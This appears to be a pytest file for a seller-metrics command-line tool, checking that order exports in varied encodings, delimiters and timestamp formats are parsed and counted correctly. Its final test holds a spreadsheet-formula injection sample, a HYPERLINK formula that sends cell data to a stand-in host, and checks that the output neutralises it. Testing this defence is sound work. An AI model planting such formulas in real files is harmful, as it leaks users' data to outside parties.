"""Order files as spreadsheets and shops export them: a UTF-8 BOM, CRLF line ends, a header in
another order with empty trailing columns, a quoted field over two lines, timestamps in several
ISO 8601 forms; a Chinese export in GB18030 with semicolons. The numbers are worked by hand."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from reinstate.cli import main

HEADER = [
    "sku", "ship_by_ts", "order_id", "account_id", "purchase_ts", "shipped_ts", "status",
    "cancelled_ts", "cancelled_by", "tracking_valid", "feedback_rating", "a_to_z_claim", "", "",
]  # fmt: skip
ROWS = [
    # on time (shipped 02:00 UTC the day before its ship-by), 5 stars, valid tracking
    ["L-1", "2026-11-22 08:00:00", "o1", "A1", "2026-11-20T08:00:00Z",
     "2026-11-21T10:00:00+08:00", "Shipped", "", "", "true", "5", "false", "", ""],
    # late, 1 star, tracking not valid; fractional seconds
    ["L-2", "2026-11-23T09:00:00.000+00:00", "o2", "A1", "2026-11-21T09:00:00.123Z",
     "2026-11-24 09:00:00Z", "Shipped", "", "", "false", "1", "false", "", ""],
    # never shipped: late; an A-to-z claim; an offset without a colon
    ["L-3", "2026-11-27T00:00:00+0000", "o3", "A1", "2026-11-25T00:00:00+0000", "",
     "Unshipped", "", "", "", "", "true", "", ""],
    # cancelled by the seller: not counted late
    ["L-4", "2026-11-28T00:00:00Z", "o4", "A1", "2026-11-26T00:00:00Z", "", "Cancelled",
     "2026-11-26T05:00:00Z", "seller", "", "", "false", "", ""],
    # on time, ship-by 18 days back (in the 30-day window only); a SKU over two lines
    ['Blue\nLamp, "big"', "2026-11-12T00:00:00Z", "o5", "A1", "2026-11-10T00:00:00Z",
     "2026-11-11T00:00:00Z", "Shipped", "", "", "true", "4", "false", "", ""],
    ["L-6", "2026-11-12T00:00:00Z", "o6", "A1", "not a date", "", "Shipped", "", "", "", "",
     "", "", ""],
]  # fmt: skip
EXPECTED = {
    "odr,60": "2,5,0.4",
    "negative_feedback_rate,60": "1,5,0.2",
    "late_shipment_rate,10": "2,3,0.6666666666666666",
    "late_shipment_rate,30": "2,4,0.5",
    "pre_fulfilment_cancel_rate,7": "1,2,0.5",
    "valid_tracking_rate,30": "2,3,0.6666666666666666",
}


@pytest.fixture(autouse=True)
def _files_only(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REINSTATE_DATABASE_URL", "sqlite:////nonexistent/dir/x.sqlite3")
    monkeypatch.setenv("REINSTATE_LANGUAGE", "en")


def test_a_spreadsheet_export_is_counted_as_by_hand(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows([HEADER, *ROWS])
    path = tmp_path / "orders.csv"
    path.write_bytes(text.getvalue().encode("utf-8-sig"))
    args = ["metrics", "compute", "--profile", "canonical", "--source", str(path)]
    assert main([*args, "--as-of", "2026-11-30"]) == 0
    out, err = capsys.readouterr()
    rows = {",".join(r.split(",")[1:3]): ",".join(r.split(",")[3:6]) for r in out.splitlines()}
    assert {key: rows[key] for key in EXPECTED} == EXPECTED
    # the bad row is said once, by its number (the header is row 1, a record over two lines
    # is one row) and its reason
    assert err.splitlines() == [
        "One row was not read:",
        "  row 7: purchase_ts: “not a date” is not a date and time.",
    ]


def test_a_chinese_export_with_semicolons_is_read_through_its_mapping(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mapping = tmp_path / "shop.toml"
    mapping.write_text(
        'timezone = "Asia/Shanghai"\ntimestamp_format = "%Y/%m/%d %H:%M"\ndelimiter = ";"\n'
        'encoding = "gb18030"\n[columns]\n"订单号" = "order_id"\n"下单时间" = "purchase_ts"\n'
        '"最晚发货时间" = "ship_by_ts"\n"发货时间" = "shipped_ts"\n"订单状态" = "status"\n'
        '"买家评分" = "feedback_rating"\n[values.status]\n"已取消" = "cancelled"\n'
        '[constants]\naccount_id = "shop-1"\n',
        encoding="utf-8",
    )
    lines = [
        "订单号;商品;下单时间;最晚发货时间;发货时间;订单状态;买家评分;",
        'A1;"蓝色台灯\r\n大号";2026/11/25 10:00;2026/11/27 10:00;2026/11/26 09:00;已发货;5;',
        "A2;台灯;2026/11/26 10:00;2026/11/28 10:00;2026/11/29 09:00;已发货;2;",
        "A3;台灯;2026/11/27 10:00;2026/11/29 10:00;;已取消;;",
    ]
    source = tmp_path / "orders.csv"
    source.write_bytes(("\r\n".join(lines) + "\r\n").encode("gb18030"))
    args = ["metrics", "compute", "--profile", "mapping", "--mapping", str(mapping)]
    assert main([*args, "--source", str(source), "--as-of", "2026-11-30"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert "shop-1,odr,60,1,3,0.3333333333333333,0.01,breach" in out
    assert "shop-1,late_shipment_rate,10,1,2,0.5,0.04,breach" in out


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_canonical_file_saved_with_semicolons_or_tabs_is_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], separator: str
) -> None:
    lines = [
        ["order_id", "account_id", "purchase_ts", "feedback_rating"],
        ["o1", "A1", "2026-11-20T08:00:00Z", "5"],
        ["o2", "A1", "2026-11-21 08:00:00+01:00", "2"],
    ]
    path = tmp_path / "orders.csv"
    path.write_bytes(
        ("\ufeff" + "\r\n".join(separator.join(row) for row in lines) + "\r\n").encode()
    )
    args = ["metrics", "compute", "--profile", "canonical", "--source", str(path)]
    assert main([*args, "--as-of", "2026-11-30"]) == 0
    assert "A1,negative_feedback_rate,60,1,2,0.5,0.01,breach" in capsys.readouterr().out


def test_a_spreadsheets_unicode_text_export_is_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [
        "order_id\taccount_id\tpurchase_ts\tfeedback_rating",
        "o1\tA1\t2026-11-20T08:00:00Z\t1",
        "o2\tA1\t2026-11-21T08:00:00Z\t5",
    ]
    path = tmp_path / "orders.txt"
    path.write_bytes(("\r\n".join(rows) + "\r\n").encode("utf-16"))
    args = ["metrics", "compute", "--profile", "canonical", "--source", str(path)]
    assert main([*args, "--as-of", "2026-11-30"]) == 0
    assert "A1,negative_feedback_rate,60,1,2,0.5,0.01,breach" in capsys.readouterr().out


def test_a_seller_id_written_as_a_formula_is_printed_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An order file passed on by someone else may name its seller as a spreadsheet formula;
    the metrics CSV, opened in a spreadsheet, shows it as written instead of running it."""
    sellers = ['=HYPERLINK("http://x.example/?"&A1,"Seller")', "@SUM(1+1)", "+86-755", "A1"]
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["order_id", "account_id", "purchase_ts", "ship_by_ts", "shipped_ts"])
    for n, seller in enumerate(sellers):
        ts = "2026-11-20T08:00:00Z"
        writer.writerow([f"o{n}", seller, ts, "2026-11-22T08:00:00Z", ts])
    path = tmp_path / "orders.csv"
    path.write_text(text.getvalue(), encoding="utf-8")
    args = ["metrics", "compute", "--profile", "canonical", "--source", str(path)]
    assert main([*args, "--as-of", "2026-11-30"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
    assert {row[0] for row in rows} == {
        '\'=HYPERLINK("http://x.example/?"&A1,"Seller")',
        "'@SUM(1+1)",
        "'+86-755",
        "A1",
    }
    # the JSON keeps the seller ids as they are
    assert main([*args, "--as-of", "2026-11-30", "--json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert {row["account_id"] for row in document["rows"]} == set(sellers)
